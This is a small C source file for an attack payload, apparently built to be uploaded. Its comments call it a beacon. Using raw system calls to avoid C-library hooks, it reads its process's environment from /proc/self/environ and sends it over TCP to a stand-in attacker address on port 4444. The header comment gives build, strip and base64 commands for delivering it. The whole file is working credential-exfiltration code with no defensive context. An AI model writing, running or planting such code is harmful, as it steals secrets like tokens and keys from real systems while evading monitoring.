/* The program that attacks upload: static, without libc, a few hundred bytes. It sends the environment of its process to the
 * attacker's host by raw system calls, so nothing that sits in a C library can see it.
 *
 *   gcc -Os -static -nostdlib -fno-asynchronous-unwind-tables -fno-stack-protector -Wl,-n,-z,norelro,--build-id=none \
 *       -s -o beacon beacon.c && objcopy -R .comment -R .note.gnu.property beacon && base64 -w0 beacon
 */
#define SYSCALL(number, a, b, c)                                                                          \
    ({ long result;                                                                                       \
       __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); \
       result; })
enum { READ = 0, WRITE = 1, OPEN = 2, SOCKET = 41, CONNECT = 42, EXIT = 60 };

void _start(void)
{
    char buffer[8192];
    /* AF_INET, port 4444, 198.51.100.66 */
    unsigned char address[16] = {2, 0, 0x11, 0x5c, 198, 51, 100, 66};
    long file = SYSCALL(OPEN, "/proc/self/environ", 0, 0);
    long size = SYSCALL(READ, file, buffer, sizeof buffer);
    long to = SYSCALL(SOCKET, 2, 1, 0);
    SYSCALL(CONNECT, to, address, sizeof address);
    SYSCALL(WRITE, to, buffer, size);
    SYSCALL(EXIT, 0, 0, 0);
}
